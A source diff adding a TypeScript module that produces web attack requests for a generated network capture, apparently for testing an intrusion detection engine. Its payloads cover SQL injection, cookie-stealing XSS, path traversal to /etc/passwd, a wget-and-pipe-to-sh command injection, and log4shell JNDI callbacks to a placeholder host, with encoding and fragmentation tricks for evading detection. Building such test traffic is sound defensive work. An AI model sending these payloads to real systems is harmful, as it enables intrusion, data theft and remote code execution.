@@ -1,0 +1,65 @@
+/**
+ * The web attacks of the generated capture: SQL injection, cross-site scripting, path
+ * traversal, command injection and log4shell requests as the usual tools send them (sqlmap,
+ * curl, nuclei, scripts), each in a plain form and in the evasive forms IDS tests use: percent
+ * and double percent encoding, a body instead of a query, obfuscation, tiny TCP segments, IP
+ * fragments. `type` is the engine's attack_type for each family.
+ */
+import { httpRequest } from './content.js';
+
+/** How a request travels: whole, split in tiny TCP segments, or in IP fragments. */
+export type Delivery = { readonly kind: 'whole' } | { readonly kind: 'segments'; readonly size: number } | { readonly kind: 'fragments'; readonly fragPayload: number };
+
+/** One malicious HTTP request and the server's answer. */
+export interface WebAttack {
+  readonly type: 'sqli' | 'xss' | 'path_traversal' | 'command_injection' | 'log4shell';
+  readonly variant: string;
+  readonly description: string;
+  readonly request: string;
+  readonly status: number;
+  readonly delivery: Delivery;
+}
+
+const HOST = 'intranet.corp.example';
+const WHOLE: Delivery = { kind: 'whole' };
+const UA = {
+  sqlmap: 'sqlmap/1.8.2#stable (https://sqlmap.org)',
+  curl: 'curl/8.5.0',
+  python: 'python-requests/2.31.0',
+  nuclei: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36',
+} as const;
+
+function get(target: string, userAgent: string, headers: readonly (readonly [string, string])[] = []): string {
+  return httpRequest({ method: 'GET', host: HOST, target, userAgent, accept: '*/*', headers });
+}
+
+function post(target: string, userAgent: string, body: string): string {
+  return httpRequest({ method: 'POST', host: HOST, target, userAgent, accept: '*/*', body });
+}
+
+/** The web attacks, in the order they are sent. The log4shell callback host is a documentation address. */
+export function webAttacks(): readonly WebAttack[] {
+  const cb = '198.51.100.99';
+  return [
+    { type: 'sqli', variant: 'plain', description: 'UNION SELECT in a query parameter (sqlmap)', request: get("/shop/item.php?id=1'+UNION+SELECT+username,password+FROM+users--+-", UA.sqlmap), status: 500, delivery: WHOLE },
+    { type: 'sqli', variant: 'urlencoded', description: "tautology ' OR '1'='1, percent-encoded", request: get('/shop/item.php?id=1%27%20OR%20%271%27%3D%271', UA.python), status: 200, delivery: WHOLE },
+    { type: 'sqli', variant: 'post_body', description: 'login bypass in a form body', request: post('/login', UA.curl, "username=admin'+OR+1=1--+-&password=x"), status: 403, delivery: WHOLE },
+    { type: 'sqli', variant: 'split_segments', description: 'UNION SELECT in 7-byte TCP segments', request: get("/shop/item.php?id=-1'+UNION+ALL+SELECT+NULL,table_name+FROM+information_schema.tables--+-", UA.sqlmap), status: 500, delivery: { kind: 'segments', size: 7 } },
+    { type: 'xss', variant: 'plain', description: '<script> in a query parameter', request: get('/search?q=<script>alert(document.cookie)</script>', UA.curl), status: 200, delivery: WHOLE },
+    { type: 'xss', variant: 'urlencoded', description: '<script> percent-encoded', request: get('/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E', UA.python), status: 200, delivery: WHOLE },
+    { type: 'xss', variant: 'post_body', description: 'event-handler injection in a comment form', request: post('/comments', UA.curl, 'name=joe&comment=<img src=x onerror=alert(document.domain)>'), status: 200, delivery: WHOLE },
+    { type: 'xss', variant: 'ip_fragments', description: '<script> in 24-byte IP fragments', request: get('/search?q=<script>document.location="http://198.51.100.99/c?"+document.cookie</script>', UA.curl), status: 200, delivery: { kind: 'fragments', fragPayload: 24 } },
+    { type: 'path_traversal', variant: 'plain', description: '../ to /etc/passwd', request: get('/download?file=../../../../../etc/passwd', UA.curl), status: 404, delivery: WHOLE },
+    { type: 'path_traversal', variant: 'urlencoded', description: '%2e%2e%2f to /etc/passwd', request: get('/static/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', UA.nuclei), status: 400, delivery: WHOLE },
+    { type: 'path_traversal', variant: 'double_encoded', description: '..%252f (double encoding) to win.ini', request: get('/download?file=..%252f..%252f..%252f..%252fwindows%252fwin.ini', UA.nuclei), status: 404, delivery: WHOLE },
+    { type: 'path_traversal', variant: 'split_segments', description: 'LFI of /proc/self/environ in 5-byte TCP segments', request: get('/index.php?page=....//....//....//proc/self/environ', UA.curl), status: 404, delivery: { kind: 'segments', size: 5 } },
+    { type: 'command_injection', variant: 'plain', description: '; cat /etc/passwd after a ping target', request: get('/cgi-bin/ping.cgi?host=127.0.0.1;cat+/etc/passwd', UA.curl), status: 200, delivery: WHOLE },
+    { type: 'command_injection', variant: 'urlencoded', description: '| id, percent-encoded', request: get('/tools/lookup?domain=example.com%7Cid', UA.python), status: 200, delivery: WHOLE },
+    { type: 'command_injection', variant: 'post_body', description: '$(wget ... | sh) in a form body', request: post('/api/diag', UA.python, `target=8.8.8.8$(wget+http://${cb}/x.sh+-O-|sh)`), status: 500, delivery: WHOLE },
+    { type: 'command_injection', variant: 'ip_fragments', description: '`uname -a` in 16-byte IP fragments', request: get('/cgi-bin/status?device=eth0`uname+-a`', UA.curl), status: 200, delivery: { kind: 'fragments', fragPayload: 16 } },
+    { type: 'log4shell', variant: 'header', description: '${jndi:ldap://...} in User-Agent', request: get('/', `\${jndi:ldap://${cb}:1389/Exploit}`), status: 200, delivery: WHOLE },
+    { type: 'log4shell', variant: 'obfuscated', description: '${${lower:j}ndi:...} in X-Api-Version', request: get('/api/v1/status', UA.nuclei, [['X-Api-Version', `\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:l}dap://${cb}/a}`]]), status: 200, delivery: WHOLE },
+    { type: 'log4shell', variant: 'urlencoded', description: '${jndi:...} percent-encoded in a query parameter', request: get(`/?x=%24%7Bjndi%3Aldap%3A%2F%2F${cb}%2Fa%7D`, UA.python), status: 200, delivery: WHOLE },
+    { type: 'log4shell', variant: 'split_segments', description: '${jndi:...} in a header, 6-byte TCP segments', request: get('/login', UA.curl, [['X-Forwarded-For', `\${jndi:rmi://${cb}:1099/obj}`]]), status: 200, delivery: { kind: 'segments', size: 6 } },
+  ];
+}
